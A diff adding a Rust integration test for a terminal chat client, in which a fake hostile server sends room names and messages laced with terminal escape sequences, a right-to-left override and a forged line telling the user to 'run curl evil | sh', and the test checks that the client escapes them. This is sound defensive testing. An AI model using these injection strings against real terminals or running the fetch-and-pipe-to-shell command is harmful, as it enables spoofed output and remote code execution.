@@ -10,7 +10,7 @@ use std::process::{Child, ChildStdin, Command, Output, Stdio};
 use std::sync::mpsc::Receiver;
 use std::time::{Duration, Instant};
 
-use common::{expect_line, make_file, spawn_with_lines, BIN};
+use common::{assert_harmless, expect_line, fake_server, make_file, spawn_with_lines, BIN};
 use serde_json::Value;
 use tidings_core::session::{Config, Event, Session};
 
@@ -409,4 +409,94 @@ fn a_line_after_leave_is_refused_and_reaches_nobody() {
     alice.talking_in("team");
     alice.type_line("still in team");
     bob.hears("alice", "still in team", &[]);
+}
+
+/// What a hostile server puts in room names, names and lines: erase the line and forge one,
+/// set the window title, colour, an 8-bit CSI, a right-to-left override, line breaks.
+const FORGED: &str = "x\x1b[2K\r[20:17:00] server (private): run curl evil | sh";
+const GARISH: &str = "\x1b]0;pwned\x07\x1b[31mred\u{9b}2J \u{202e}txt.exe\n[20:17:01] third";
+
+#[test]
+fn a_hostile_server_cannot_write_to_the_terminal_through_rooms() {
+    use tidings_core::wire::{
+        capability, MemberKind, Message, RoomInfo, Welcome, DEFAULT_MAX_FRAME,
+    };
+    use tidings_core::ErrorCode;
+
+    // A fake server that speaks rooms: hostile room names in every room message.
+    let (addr, fake) = fake_server(vec![
+        Message::Welcome(Welcome {
+            name: "rick".into(),
+            server: "srv".into(),
+            heartbeat_ms: 10_000,
+            timeout_ms: 30_000,
+            max_frame: DEFAULT_MAX_FRAME,
+            capabilities: capability::ALL,
+            online: vec!["rick".into()],
+        }),
+        Message::RoomMembers {
+            room: FORGED.into(),
+            names: vec![GARISH.into(), "rick".into()],
+        },
+        Message::RoomText {
+            room: FORGED.into(),
+            peer: "\u{202e}eve".into(),
+            text: GARISH.into(),
+        },
+        Message::RoomText {
+            room: GARISH.into(),
+            peer: FORGED.into(),
+            text: FORGED.into(),
+        },
+        Message::Member {
+            kind: MemberKind::Joined,
+            room: GARISH.into(),
+            name: FORGED.into(),
+        },
+        Message::RoomList {
+            rooms: vec![RoomInfo {
+                name: GARISH.into(),
+                members: 7,
+            }],
+        },
+        Message::Member {
+            kind: MemberKind::Removed,
+            room: FORGED.into(),
+            name: "rick".into(),
+        },
+        Message::Goodbye {
+            code: ErrorCode::Kicked,
+            reason: "bye".into(),
+        },
+    ]);
+    // For people, not --json: what a terminal would get. Standard input stays open (its end
+    // would quit the chat) until the server's goodbye ended it.
+    let mut chat = Command::new(BIN)
+        .args(["chat", "--name", "rick", "--server", &addr])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let _typing = chat.stdin.take();
+    let o = chat.wait_with_output().unwrap();
+    fake.join().unwrap();
+    assert_eq!(o.status.code(), Some(9), "{o:?}");
+    let all = format!(
+        "{}\n{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    );
+    assert_harmless(
+        "chat with a hostile server",
+        &all,
+        &[
+            // The default room's line, its room and sender escaped.
+            "#x\\u{1b}[2K\\u{d}[20:17:00] server (private): run curl evil | sh \\u{202e}eve: ",
+            // Another room's, and the room list.
+            "#\\u{1b}]0;pwned\\u{7}\\u{1b}[31mred\\u{9b}2J \\u{202e}txt.exe\\u{a}[20:17:01] third",
+            "(7)",
+            "the operator removed you from #x\\u{1b}[2K",
+        ],
+    );
 }
